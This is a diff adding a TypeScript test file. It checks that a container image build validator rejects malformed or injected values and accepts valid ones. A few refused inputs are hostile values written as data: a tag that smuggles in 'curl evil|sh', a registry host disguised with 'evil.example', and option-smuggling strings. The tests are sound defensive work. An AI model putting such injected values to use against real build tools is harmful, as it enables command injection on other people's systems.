@@ -1,0 +1,59 @@
+// What no engine is asked for: each refused value is quoted, and says what was expected.
+import { describe, expect, it } from "vitest";
+import type { ImageBuild } from "../../../src/build/engine.ts";
+import { checkImageBuild } from "../../../src/build/engines/check.ts";
+import { UserError } from "../../../src/errors.ts";
+import { anImage } from "./an-image.ts";
+
+const file = (path: string): ImageBuild["secrets"] => [{ id: "a", source: { file: path } }];
+const env = (name: string): ImageBuild["secrets"] => [{ id: "a", source: { env: name } }];
+
+describe("a build", () => {
+  it.each<readonly [string, Partial<ImageBuild>, RegExp]>([
+    ["a name like an option", { references: ["--help"] }, /--help/u],
+    ["a name like an option, with a tag", { references: ["--help:1"] }, /--help:1/u],
+    ["a reference without a tag", { references: ["ghcr.io/a/b"] }, /name and a tag/u],
+    ["a reference by digest", { references: [`ghcr.io/a/b:1@sha256:${"a".repeat(64)}`] }, /name and a tag/u],
+    ["a host that is user information", { references: ["ghcr.io@evil.example/a/b:1"] }, /evil\.example/u],
+    ["a tag that would be a command", { references: ["a/b:v1;curl evil|sh"] }, /tag/u],
+    ["a push of nothing", { references: [], push: true }, /no tag/u],
+    ["a context on standard input", { context: "-" }, /context is "-"/u],
+    ["no context", { context: "" }, /context is ""/u],
+    ["a Dockerfile on standard input", { file: "-" }, /file is "-"/u],
+    ["an empty target", { target: "" }, /target/u],
+    ["a build argument without a name", { buildArgs: [["", "x"]] }, /build argument ""/u],
+    ["a build argument whose name holds =", { buildArgs: [["A=B", "x"]] }, /"A=B"/u],
+    ["a label's key with =", { labels: { "a=b": "c" } }, /label "a=b"/u],
+    ["a label's key with a line break", { labels: { "a\nb": "c" } }, /label/u],
+    ["an annotation without a key", { annotations: { "": "c" } }, /annotation ""/u],
+    ["a platform with an option in it", { platforms: ["linux/amd64,--push"] }, /platform "linux\/amd64,--push"/u],
+    ["a platform without an architecture", { platforms: ["linux"] }, /os\/architecture/u],
+    ["a secret's id that would be more", { secrets: [{ id: "a,env=B", source: { env: "A" } }] }, /"a,env=B"/u],
+    ["a secret's variable that would be more", { secrets: env("A,target=/x") }, /environment variable/u],
+    ["a secret's file with a comma", { secrets: file("a,b") }, /comma/u],
+    ["a secret's file with a quotation mark", { secrets: file('a"b') }, /quotation/u],
+    ["one secret twice", { secrets: [...env("A"), ...file("b")] }, /twice/u],
+    ["a time that is none", { sourceDateEpoch: Number.NaN }, /NaN/u],
+    ["a time before 1970", { sourceDateEpoch: -1 }, /-1/u],
+    ["an end of options", { extraArguments: ["--"] }, /"--" cannot be given/u],
+    ["a push behind our back", { extraArguments: ["--push"] }, /"--push" cannot be given/u],
+    ["a tag behind our back", { extraArguments: ["--tag=x"] }, /"--tag=x" cannot be given/u],
+    ["a tag behind our back, in short", { extraArguments: ["-tx"] }, /"-tx" cannot be given/u],
+    ["another place for the result", { extraArguments: ["--metadata-file", "x"] }, /the result is read/u],
+  ])("refuses %s", (_what, changes, says) => {
+    const check = (): void => checkImageBuild(anImage(changes));
+    expect(check).toThrow(UserError);
+    expect(check).toThrow(says);
+  });
+
+  it.each<readonly [string, Partial<ImageBuild>]>([
+    ["the least", {}],
+    ["no reference at all, for a build that is only tried", { references: [] }],
+    ["every kind of platform", { platforms: ["linux/arm/v7", "windows/amd64", "wasip1/wasm", "linux/mips64le"] }],
+    ["values of any text", { buildArgs: [["A_1", "=\n\t--x"]], labels: { "a.b/c": "=\n" } }],
+    ["extra arguments of any other kind", { extraArguments: ["--network=none", "--no-cache", "-q"] }],
+    ["a secret's file by a path with spaces", { secrets: file("/a b/c") }],
+  ])("takes %s", (_what, changes) => {
+    expect(() => checkImageBuild(anImage(changes))).not.toThrow();
+  });
+});
